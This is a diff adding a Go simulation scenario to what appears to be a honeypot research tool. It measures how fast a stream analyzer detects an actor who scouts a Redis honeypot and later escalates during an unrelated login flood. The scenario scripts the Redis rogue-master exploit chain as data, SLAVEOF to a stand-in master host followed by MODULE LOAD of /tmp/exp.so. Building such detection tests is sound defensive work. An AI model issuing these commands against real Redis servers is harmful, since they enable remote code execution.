@@ -1,0 +1,206 @@
+// Escalation scenario: one actor scouts a Redis honeypot, goes quiet,
+// then comes back hours later with the rogue-master exploit chain —
+// while a hostile flood hammers an unrelated honeypot the whole time.
+// This is the workload internal/stream's transition alerting exists
+// for: the scout→exploit escalation must surface while the deployment
+// is still busy, not in a post-hoc report, and the scenario proves the
+// alert's latency is bounded by counting how many flood sessions elapse
+// between the exploit and the observer seeing the alert.
+package simnet
+
+import (
+	"context"
+	"fmt"
+	"net/netip"
+	"sync"
+	"sync/atomic"
+	"time"
+
+	"decoydb/internal/bus"
+	"decoydb/internal/core"
+)
+
+// EscalateConfig parameterises the escalation scenario. The zero value
+// is usable; attach a stream.Analyzer to the sinks and point AlertFired
+// at its alert ring to measure detection latency.
+type EscalateConfig struct {
+	// Seed drives handler construction; identical configs replay.
+	Seed int64
+	// ScoutSessions is how many low-and-slow scouting sessions the actor
+	// runs before going quiet (default 3), one per virtual hour.
+	ScoutSessions int
+	// FloodSessions is the background flood's session count (default
+	// 200). Every session is a full MSSQL login exchange.
+	FloodSessions int
+	// ExploitAfter is how many flood sessions complete before the actor
+	// strikes (default FloodSessions/4), leaving a long flood tail in
+	// which the alert must surface.
+	ExploitAfter int
+	// FloodPacing is the real-time gap between flood sessions (default
+	// 200µs). A live flood arrives over network round trips; pacing the
+	// replay the same way keeps the bus workers scheduled alongside the
+	// session goroutines even on a single-CPU runner, so the scenario
+	// measures the analyzer's latency, not scheduler starvation.
+	FloodPacing time.Duration
+	// Bus configures the event transport for the run.
+	Bus bus.Options
+	// AlertFired reports whether the observer (typically a
+	// stream.Analyzer riding the bus as a sink) has surfaced the
+	// scout→exploit escalation yet. It is polled between flood sessions
+	// once the exploit session has completed; the number of sessions
+	// until it first returns true is the scenario's latency measure.
+	AlertFired func() bool
+}
+
+func (c EscalateConfig) withDefaults() EscalateConfig {
+	if c.ScoutSessions <= 0 {
+		c.ScoutSessions = 3
+	}
+	if c.FloodSessions <= 0 {
+		c.FloodSessions = 200
+	}
+	if c.ExploitAfter <= 0 || c.ExploitAfter >= c.FloodSessions {
+		c.ExploitAfter = c.FloodSessions / 4
+	}
+	if c.FloodPacing <= 0 {
+		c.FloodPacing = 200 * time.Microsecond
+	}
+	return c
+}
+
+// EscalateResult reports who did what and how fast the alert surfaced.
+type EscalateResult struct {
+	Actor    netip.Addr // the scout-then-exploit source
+	Flooder  netip.Addr // the background flood source
+	Sessions int64
+	Errors   int64
+	// AlertAfter is how many background flood sessions completed between
+	// the actor's exploit session finishing and AlertFired first
+	// returning true: the scenario's bounded-latency measure. -1 means
+	// the alert never fired before the flood ended (or no AlertFired
+	// probe was configured).
+	AlertAfter int
+	Bus        bus.Stats // final transport snapshot
+}
+
+// RunEscalation executes the scenario. The flooder opens FloodSessions
+// MSSQL sessions back to back; the actor runs ScoutSessions Redis
+// scouting sessions (INFO/PING, one per virtual hour), waits until
+// ExploitAfter flood sessions have completed, then replays the
+// rogue-master chain (SLAVEOF + MODULE LOAD) with its events stamped
+// twelve virtual hours after the scouting — the long idle gap that
+// makes post-hoc correlation easy to miss and live alerting valuable.
+// After the exploit session returns, the flooder polls AlertFired
+// between its remaining sessions and records the session count in
+// AlertAfter. The bus is drained and closed before RunEscalation
+// returns, so sinks are complete and quiescent afterwards.
+func RunEscalation(ctx context.Context, cfg EscalateConfig, sinks ...core.Sink) (*EscalateResult, error) {
+	cfg = cfg.withDefaults()
+
+	// Instance 0 takes the flood; instance 1 is the actor's Redis
+	// target. Separate honeypots, so the flood's serial session queue
+	// never delays the actor — contention here is in the transport and
+	// the analyzer, which is what the scenario measures.
+	deploy := &core.Deployment{Instances: []core.Info{
+		{DBMS: core.MSSQL, Level: core.Low, Port: 1433,
+			Config: core.ConfigDefault, Group: core.GroupMulti, VM: "esc-flood"},
+		{DBMS: core.Redis, Level: core.Low, Port: 6379,
+			Config: core.ConfigDefault, Group: core.GroupMulti, VM: "esc-target"},
+	}}
+	insts := buildInstances(deploy, cfg.Seed)
+
+	res := &EscalateResult{
+		// TEST-NET-3 sources, like the flood scenario: transport and
+		// alerting are under test, not GeoIP enrichment.
+		Flooder:    netip.AddrFrom4([4]byte{203, 0, 113, 1}),
+		Actor:      netip.AddrFrom4([4]byte{203, 0, 113, 5}),
+		AlertAfter: -1,
+	}
+
+	evbus := bus.New(cfg.Bus, sinks...)
+	var sessions, errCount atomic.Int64
+	run := func(j job) {
+		sessions.Add(1)
+		if err := runSession(ctx, j, evbus); err != nil {
+			errCount.Add(1)
+		}
+	}
+
+	strike := make(chan struct{})    // closed when ExploitAfter flood sessions are done
+	exploited := make(chan struct{}) // closed when the exploit session has returned
+
+	var wg sync.WaitGroup
+	wg.Add(1)
+	go func() { // the background flood, one source, back to back
+		defer wg.Done()
+		struck := false
+		sinceExploit := 0
+		for i := 0; i < cfg.FloodSessions && ctx.Err() == nil; i++ {
+			run(job{
+				at:     core.ExperimentStart.Add(time.Duration(i) * time.Second),
+				src:    netip.AddrPortFrom(res.Flooder, uint16(1024+i%60000)),
+				inst:   insts.all[0],
+				script: mssqlLogin("sa", fmt.Sprintf("flood%d", i)),
+			})
+			if i+1 >= cfg.ExploitAfter && !struck {
+				struck = true
+				close(strike)
+			}
+			time.Sleep(cfg.FloodPacing)
+			if res.AlertAfter >= 0 || cfg.AlertFired == nil {
+				continue
+			}
+			select {
+			case <-exploited:
+				// The exploit events are in flight or delivered; each
+				// poll here is one flood session of detection latency.
+				sinceExploit++
+				if cfg.AlertFired() {
+					res.AlertAfter = sinceExploit
+				}
+			default:
+			}
+		}
+		if !struck {
+			close(strike) // flood cancelled before the strike point
+		}
+	}()
+	wg.Add(1)
+	go func() { // the actor: scout, idle, escalate
+		defer wg.Done()
+		defer close(exploited)
+		for i := 0; i < cfg.ScoutSessions && ctx.Err() == nil; i++ {
+			run(job{
+				at:     core.ExperimentStart.Add(time.Duration(i) * time.Hour),
+				src:    netip.AddrPortFrom(res.Actor, uint16(3024+i)),
+				inst:   insts.all[1],
+				script: redisCommands([][]string{{"INFO"}, {"PING"}}),
+			})
+		}
+		select {
+		case <-strike:
+		case <-ctx.Done():
+			return
+		}
+		run(job{
+			at:   core.ExperimentStart.Add(12 * time.Hour),
+			src:  netip.AddrPortFrom(res.Actor, uint16(4024)),
+			inst: insts.all[1],
+			script: redisCommands([][]string{
+				{"SLAVEOF", "198.51.100.9", "6379"},
+				{"MODULE", "LOAD", "/tmp/exp.so"},
+			}),
+		})
+	}()
+	wg.Wait()
+	if err := evbus.Close(); err != nil {
+		return nil, fmt.Errorf("simnet: escalation transport: %w", err)
+	}
+	if ctx.Err() != nil {
+		return nil, ctx.Err()
+	}
+	res.Sessions = sessions.Load()
+	res.Errors = errCount.Load()
+	res.Bus = evbus.Stats()
+	return res, nil
+}
